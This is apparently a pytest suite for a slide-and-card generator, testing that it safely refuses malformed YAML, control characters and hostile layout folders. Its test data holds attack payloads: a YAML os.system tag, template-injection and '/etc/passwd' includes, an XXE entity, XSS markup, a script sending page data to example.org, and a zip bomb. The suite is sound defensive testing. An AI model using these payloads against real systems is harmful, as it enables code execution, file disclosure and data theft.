"""A hurried facilitator and a hostile shared layout (issue 5): odd YAML, wrong types, control characters,
hostile templates, symlinks, broken masters, unusable output folders, interrupted commits.

Tests marked ``xfail(strict=True)`` record bugs found by the adversarial review: they fail today and
start passing (turning the strict xfail red) once the bug is fixed; then drop the marker."""

from __future__ import annotations

import io
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import pytest
from click.testing import CliRunner

from deckgen.cli import main
from deckgen.errors import DeckgenError, InvalidInput
from deckgen.layout import load_layout
from fixtures.layout_folders import layout_folder

ONE_MODEL = 'language: en\ntitle: T\nmodels: [{name: A, strengths: [s]}]\n'


@pytest.fixture
def run(tmp_path, monkeypatch):
    """The CLI in this process, in an empty working folder; returns click's Result."""
    work = tmp_path / "cwd"
    work.mkdir()
    monkeypatch.chdir(work)

    def invoke(*args):
        return CliRunner().invoke(main, [str(a) for a in args])

    return invoke


def clean_failure(result) -> bool:
    """Exit status 1 with a message, and no exception escaping to a traceback."""
    escaped = result.exception is not None and not isinstance(result.exception, SystemExit)
    return result.exit_code == 1 and not escaped and result.output.strip() != ""


def content(folder: Path, text: str, name: str = "w.yaml") -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / name
    path.write_text(text, encoding="utf-8", errors="surrogatepass")
    return path


def all_output_text(folder: Path) -> bytes:
    return b"".join(path.read_bytes() for path in folder.rglob("*") if path.is_file())


def files_in(folder: Path) -> list[str]:
    """The files under ``folder`` (none if it does not exist): what a failed build must not leave."""
    return sorted(str(path.relative_to(folder)) for path in folder.rglob("*") if path.is_file()) \
        if folder.exists() else []


# --- odd YAML: passes today ----------------------------------------------------------------------------


def test_python_tags_are_never_constructed(run, tmp_path):
    marker = tmp_path / "pwned"
    path = content(tmp_path / "c", f"title: !!python/object/apply:os.system ['touch {marker}']\n"
                                   "models: [{name: A}]\n")
    result = run("check", path)
    assert clean_failure(result) and f"{path}:1:8: title:" in result.output
    assert not marker.exists()


@pytest.mark.parametrize("text, where", [
    ("title: T\n1: x\nmodels: [{name: A}]\n", ":2:1: 1: unknown key"),
    ("title: T\ntrue: x\nmodels: [{name: A}]\n", ":2:1: True: unknown key"),
    ("title: T\n~: x\nmodels: [{name: A}]\n", ":2:1:"),
    ("title: T\n? [a, b]\n: x\nmodels: [{name: A}]\n", ":2:3:"),
    ("title: T\nmodels: [{name: A, name: B}]\n", ":2:"),
    ("title: T\nmodels: " + "[" * 3000 + "]" * 3000 + "\n", ": YAML syntax error"),
    ("title: T\nmodels: [{name: A}]\n---\ntitle: U\n", ":3:1: a second document starts here"),
    ("title: !!binary aGVsbG8=\nmodels: [{name: A}]\n", ":1:8: title: expected text"),
    ("title: T\nmodels: [{name: A, strengths: [~, '  ']}]\n", ":2:32: model 1 'A', strengths item 1"),
])
def test_odd_yaml_is_one_located_message(run, tmp_path, text, where):
    path = content(tmp_path / "c", text)
    result = run("check", path)
    assert clean_failure(result), result.output
    assert result.output.startswith(f"{path}{where}"), result.output


def test_anchors_merge_keys_crlf_and_bom_load(tmp_path):
    from deckgen.content import load_workshop

    text = ("\ufefftitle: &t Hello\r\nsubtitle: *t\r\nmodels:\r\n  - &m {name: A, strengths: [s]}\r\n"
            "  - <<: *m\r\n    name: B\r\n")
    workshop = load_workshop(content(tmp_path, text))
    assert workshop.title.plain == "Hello" and workshop.subtitle.plain == "Hello"
    assert [m.name.plain for m in workshop.models] == ["A", "B"]
    assert workshop.models[1].strengths[0].plain == "s"


def test_braces_in_labels_are_never_formatted():
    from deckgen.labels import resolve_labels

    labels = resolve_labels("en", {"overview": "{count} models {0} {x} {count.__class__}"})
    assert labels.overview_heading(3) == "3 models {0} {x} {count.__class__}"


def test_control_characters_in_bullets_and_notes_are_refused_with_their_place(run, tmp_path):
    path = content(tmp_path / "c", 'title: T\nmodels:\n  - name: "a\\x1bb"\n'
                                   '    strengths: ["\\x1b[31mred", "nul\\0here", "rlo\\u202eend"]\n'
                                   '    notes: "bell\\a esc\\x1b"\n')
    result = run("build", path, "--only", "slides", "-o", tmp_path / "out")
    assert clean_failure(result), result.output
    assert f"{path}:3:11: model 1, name: expected printable text, got the unprintable character U+001B" \
        in result.output
    assert "model 1, strengths item 2:" in result.output and "model 1, notes:" in result.output
    assert "strengths item 3" not in result.output  # U+202E is a format character, not a control: it stays


def test_line_tabulations_from_powerpoint_become_spaces_and_build(run, tmp_path):
    from lxml import etree

    path = content(tmp_path / "c", 'title: T\nmodels:\n  - name: "a\\vb"\n'
                                   '    strengths: ["one\\ftwo", "rlo\\u202eend"]\n')
    out = tmp_path / "out"
    result = run("build", path, "--only", "slides", "-o", out)
    assert result.exit_code == 0, result.output
    with zipfile.ZipFile(out / "w.pptx") as deck:
        for name in deck.namelist():
            if name.endswith((".xml", ".rels")):
                etree.fromstring(deck.read(name))  # raises on invalid XML


# --- odd content: bugs ---------------------------------------------------------------------------------


@pytest.mark.parametrize("title, code", [("a\\x1bb", "U+001B"), ("a\\0b", "U+0000"), ("a\\ufffeb", "U+FFFE")])
def test_control_characters_in_the_title_are_refused_with_their_place(run, tmp_path, title, code):
    path = content(tmp_path / "c", f'title: "{title}"\nmodels: [{{name: A, strengths: [s]}}]\n')
    out = tmp_path / "out"
    result = run("build", path, "--only", "slides", "-o", out)
    assert clean_failure(result), repr(result.exception)
    assert result.output.startswith(f"{path}:1:8: title: expected printable text, got the unprintable "
                                    f"character {code}"), result.output
    assert files_in(out) == []


def test_lone_surrogate_is_refused_with_its_place(tmp_path):
    from deckgen.content import load_workshop

    path = content(tmp_path, 'title: T\nmodels: [{name: A, strengths: ["x\\ud800y"]}]\n')
    with pytest.raises(InvalidInput) as caught:
        load_workshop(path)
    assert str(caught.value).startswith(f"{path}:2:32: model 1 'A', strengths item 1: expected printable text, "
                                        "got the unprintable character U+D800"), str(caught.value)


def _with(key: str, value) -> str:
    import json

    if key == "title":
        return ONE_MODEL.replace("title: T", f"title: {json.dumps(value)}")
    return ONE_MODEL.replace("title: T\n", f"title: T\n{key}: {json.dumps(value)}\n")


@pytest.mark.parametrize("key, value", [("title", ("Short words here " * 17).strip()),
                                        ("authors", [f"Author Number{i}" for i in range(30)])])
def test_a_long_title_or_many_authors_build_and_are_cut_in_the_core_properties(run, tmp_path, key, value):
    from pptx import Presentation

    path = content(tmp_path / "c", _with(key, value))
    result = run("build", path, "--only", "slides", "-o", tmp_path / "out")
    assert result.exit_code == 0, result.output
    core = Presentation(str(tmp_path / "out" / "w.pptx")).core_properties
    cut = core.title if key == "title" else core.author
    assert len(cut) == 255 and cut.endswith("\u2026")  # at most 255 characters, the cut shown


def test_more_authors_than_the_title_slide_holds_are_refused_at_the_authors(run, tmp_path):
    path = content(tmp_path / "c", _with("authors", [f"Author Number{i}" for i in range(400)]))
    out = tmp_path / "out"
    result = run("build", path, "--only", "slides", "-o", out)
    assert clean_failure(result), repr(result.exception)
    assert result.output.startswith(f"{path}:3:1: authors: slide 1 'T': authors, venue and date take "), result.output
    assert "nothing was written" in result.output
    assert files_in(out) == []


def test_a_run_of_asterisks_is_no_recursion_error():
    from deckgen.inline import parse_inline

    assert parse_inline("*" * 5000) is not None


def test_a_raw_control_character_in_the_file_is_located(tmp_path):
    from deckgen.yamlsource import read_yaml

    path = tmp_path / "w.yaml"
    path.write_bytes(b"title: T\nsubtitle: a\x1bb\nmodels: [{name: A}]\n")
    with pytest.raises(InvalidInput) as caught:
        read_yaml(path)
    message = str(caught.value)
    assert message.startswith(f"{path}:2:12:") and "\n" not in message, message


def test_unknown_layout_in_the_content_names_file_and_line(run, tmp_path):
    path = content(tmp_path / "c", "title: T\nlayout: nosuch\nmodels: [{name: A}]\n")
    result = run("check", path)
    assert clean_failure(result) and result.output.startswith(f"{path}:2:9:"), result.output


def test_a_big_file_of_many_models_is_refused_quickly(tmp_path):
    model = "  - name: Model {0}\n    strengths: [Contact with others {0}, Builds confidence]\n"
    lines = ["title: Big", "models:"] + [model.format(i) for i in range(33_000)]
    path = content(tmp_path, "\n".join(lines))
    assert path.stat().st_size < 5 * 1024 * 1024  # under MAX_FILE_BYTES, so it is read
    started = time.monotonic()
    try:
        result = subprocess.run([sys.executable, "-m", "deckgen", "check", str(path)], capture_output=True,
                                text=True, timeout=4)
    except subprocess.TimeoutExpired:
        pytest.fail(f"not refused within 4 s (gave up after {time.monotonic() - started:.1f} s)")
    assert result.returncode == 1 and "alias bomb" not in result.stderr, result.stderr


# --- hostile layouts: passes today ---------------------------------------------------------------------


@pytest.mark.parametrize("template", [
    "{{ cycler.__init__.__globals__.os }}",
    "{{ '{0.__class__}'.format(1) }}",
    "{{ lipsum|attr('__globals__') }}",
    "{% include '/etc/passwd' %}",
    "{% include '../../../../../etc/passwd' %}",
    "{% extends '../../x' %}",
])
def test_hostile_template_is_one_message(run, tmp_path, template):
    folder = layout_folder(tmp_path, "evil", templates={"card-models-front.html.j2": template})
    path = content(tmp_path / "c", ONE_MODEL)
    result = run("build", path, "--layout", folder, "--only", "cards", "-o", tmp_path / "out")
    assert clean_failure(result), result.output
    assert result.output.startswith("error: card template") and "root:" not in result.output


def test_a_template_with_an_xml_entity_reads_no_file(run, tmp_path):
    from pptx import Presentation

    buffer = io.BytesIO()
    Presentation().save(buffer)
    folder = layout_folder(tmp_path, "xxe", "extends: default\nslides:\n  template: t.pptx\n")
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(folder / "t.pptx", "w", zipfile.ZIP_DEFLATED) as target:
        for name in source.namelist():
            data = source.read(name)
            if name == "ppt/presentation.xml":
                data = data.replace(b"<p:presentation", b'<!DOCTYPE p [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
                                                        b"<p:presentation", 1)
            target.writestr(name, data)
    path = content(tmp_path / "c", ONE_MODEL)
    out = tmp_path / "out"
    result = run("build", path, "--layout", folder, "--only", "slides", "-o", out)
    assert result.exit_code == 0, result.output  # the entity is declared, never expanded: the deck builds
    assert (out / "w.pptx").is_file()
    assert b"root:x:" not in all_output_text(out)


def test_out_that_is_a_file_or_under_a_file(run, tmp_path):
    path = content(tmp_path / "c", ONE_MODEL)
    blocker = tmp_path / "afile"
    blocker.write_text("keep")
    assert run("build", path, "-o", blocker).exit_code == 2
    result = run("build", path, "-o", blocker / "sub", "--only", "slides")
    assert clean_failure(result) and "Not a directory" in result.output
    assert blocker.read_text() == "keep"


# --- hostile layouts: bugs -----------------------------------------------------------------------------


@pytest.mark.parametrize("what", ["template file", "stylesheet", "templates folder"])
def test_symlinks_in_templates_leading_out_are_refused(run, tmp_path, what):
    default_css = (load_layout("default").template_dirs[-1][1] / "cards.css").read_text(encoding="utf-8")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "secret.html.j2").write_text("OUTSIDE-SECRET-TOKEN")
    (outside / "cards.css").write_text(default_css + "\n/* OUTSIDE-SECRET-TOKEN */\n")
    (outside / "card-models-front.html.j2").write_text("OUTSIDE-SECRET-TOKEN")
    folder = layout_folder(tmp_path, "linked")
    if what == "template file":
        os.symlink(outside / "secret.html.j2", folder / "templates" / "card-models-front.html.j2")
    elif what == "stylesheet":
        os.symlink(outside / "cards.css", folder / "templates" / "cards.css")
    else:
        (folder / "templates").rmdir()
        os.symlink(outside, folder / "templates")
    path = content(tmp_path / "c", ONE_MODEL)
    out = tmp_path / "out"
    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", out)
    assert clean_failure(result), repr(result.exception)
    assert "is a link that leads out of the layout folder" in result.output, result.output
    assert "OUTSIDE-SECRET-TOKEN" not in result.output
    assert files_in(out) == []


def test_a_replacement_stylesheet_without_the_side_rules_is_one_message(run, tmp_path):
    folder = layout_folder(tmp_path, "plain", templates={"cards.css": "body { color: #333 }\n"})
    path = content(tmp_path / "c", 'title: T\nmodels: [{name: A, strengths: [s]}, {name: B, strengths: [t]}]\n')
    out = tmp_path / "out"
    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", out)
    assert clean_failure(result), repr(result.exception)
    assert result.output.startswith("error: the layout's templates (cards.css / card templates) do not lay out "
                                    "card side 1"), result.output
    assert "as one A6 page" in result.output
    assert files_in(out) == []


def test_a_layout_cannot_put_scripts_into_the_preview(run, tmp_path):
    block = ('{% extends "default/card-models-front.html.j2" %}{% block band %}'
             '<script>fetch("https://example.org/?" + document.title)</script>{% endblock %}')
    folder = layout_folder(tmp_path, "scripted", templates={"card-models-front.html.j2": block})
    path = content(tmp_path / "c", ONE_MODEL)
    out = tmp_path / "out"
    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", out)
    assert clean_failure(result), repr(result.exception)
    assert "<script> in card-models-front.html.j2" in result.output and "'scripted'" in result.output
    assert files_in(out) == []  # no preview, no cards


@pytest.mark.parametrize("markup", ['<img src="x.png" onerror="alert(1)">', '<a href=" java\tscript:alert(1)">x</a>',
                                    '<iframe src="https://example.org/"></iframe>', '<!--><script>alert(1)</script>-->',
                                    '<svg><style><img src=x onerror=alert(1)></style></svg>'])
def test_a_layout_cannot_put_active_markup_into_the_pages(run, tmp_path, markup):
    block = '{% extends "default/cards.html.j2" %}{% block head %}' + markup + '{% endblock %}'
    folder = layout_folder(tmp_path, "active", templates={"cards.html.j2": block})
    path = content(tmp_path / "c", ONE_MODEL)
    result = run("build", path, "--layout", folder, "--only", "cards", "--no-cache", "-o", tmp_path / "out")
    assert clean_failure(result), repr(result.exception)
    assert "layout templates may not contain scripts" in result.output and "cards.html.j2" in result.output


def test_extends_with_an_absolute_path_is_refused(tmp_path):
    elsewhere = layout_folder(tmp_path / "elsewhere", "other")
    child = layout_folder(tmp_path / "org", "child", f"extends: {elsewhere}\n")
    with pytest.raises(DeckgenError) as caught:
        load_layout(str(child))
    assert "extends" in str(caught.value)


def test_a_template_without_slide_layouts_is_one_message(run, tmp_path):
    from pptx import Presentation
    from pptx.oxml.ns import qn

    prs = Presentation()
    master = prs.slide_masters[0]
    id_list = master._element.find(qn("p:sldLayoutIdLst"))
    for entry in list(id_list):
        master.part.drop_rel(entry.get(qn("r:id")))
        id_list.remove(entry)
    folder = layout_folder(tmp_path, "bare", "extends: default\nslides:\n  template: t.pptx\n")
    prs.save(folder / "t.pptx")
    path = content(tmp_path / "c", ONE_MODEL)
    result = run("build", path, "--layout", folder, "--only", "slides", "-o", tmp_path / "out")
    assert clean_failure(result), repr(result.exception)
    assert "t.pptx" in result.output and "no slide layouts" in result.output, result.output


def test_a_zip_bomb_template_is_refused_when_the_layout_loads(tmp_path):
    from pptx import Presentation

    buffer = io.BytesIO()
    Presentation().save(buffer)
    folder = layout_folder(tmp_path, "bomb", "extends: default\nslides:\n  template: t.pptx\n")
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as source, \
            zipfile.ZipFile(folder / "t.pptx", "w", zipfile.ZIP_DEFLATED, compresslevel=9) as target:
        for name in source.namelist():
            target.writestr(name, source.read(name))
        with target.open("ppt/media/padding.xml", "w", force_zip64=True) as padding:
            chunk = b" " * (16 << 20)
            for _ in range(16):
                padding.write(chunk)
    assert (folder / "t.pptx").stat().st_size < 1024 * 1024
    with pytest.raises(DeckgenError):
        load_layout(str(folder))


# --- output folders and interruptions ------------------------------------------------------------------


def test_calibrate_into_an_unusable_folder_is_one_message(run, tmp_path):
    blocker = tmp_path / "afile"
    blocker.write_text("keep")
    result = run("calibrate", "-o", blocker / "cal.pdf")
    assert clean_failure(result), repr(result.exception)


def test_ctrl_c_during_the_moves_leaves_no_mixed_outputs(tmp_path, monkeypatch):
    import deckgen.outputs as outputs_module
    from deckgen.outputs import output_set

    out = tmp_path / "out"
    names = ("w.pptx", "w-cards.pdf", "w-cards.html")
    with output_set(out) as outputs:
        for name in names:
            outputs.temp_for(out / name).write_text("old")
        outputs.commit()
    real_replace, moves = os.replace, []

    def replace(source, target):
        moves.append(target)
        if len(moves) == 2:
            os.kill(os.getpid(), signal.SIGINT)  # Ctrl-C arrives between the first and the second move
        real_replace(source, target)

    def interrupt(signum, frame):
        raise KeyboardInterrupt

    previous = signal.signal(signal.SIGINT, interrupt)
    try:
        monkeypatch.setattr(outputs_module.os, "replace", replace)
        with pytest.raises(KeyboardInterrupt):
            with output_set(out) as outputs:
                for name in names:
                    outputs.temp_for(out / name).write_text("new")
                outputs.commit()
    finally:
        monkeypatch.undo()
        signal.signal(signal.SIGINT, previous)
    # Ctrl-C is held until every file has moved, then ends the build: all new, none old
    assert len(moves) == len(names)
    assert {name: (out / name).read_text() for name in names} == dict.fromkeys(names, "new")
    assert not [path.name for path in out.iterdir() if outputs_module.TEMP_MARK in path.name]
